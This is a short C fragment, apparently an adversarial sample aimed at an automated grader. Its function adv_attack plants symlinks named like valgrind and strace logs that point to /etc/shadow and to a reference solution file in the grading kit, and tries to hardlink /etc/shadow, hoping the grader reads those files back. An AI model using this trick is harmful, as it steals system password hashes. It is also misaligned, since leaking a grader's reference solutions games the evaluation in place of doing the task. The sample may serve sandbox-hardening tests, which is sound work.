/* Plants links where the grader reads files back, hoping it follows them. */
#include <unistd.h>

static int adv_attack(void)
{
    symlink("/etc/shadow", "valgrind.log");
    symlink("/etc/shadow", "strace.out");
    symlink(ADV_KIT "/solutions/prodcons/bbuf.c", "valgrind.1.log");
    if (link("/etc/shadow", "shadow-hardlink") == 0)
        return 1;
    return 0;
}
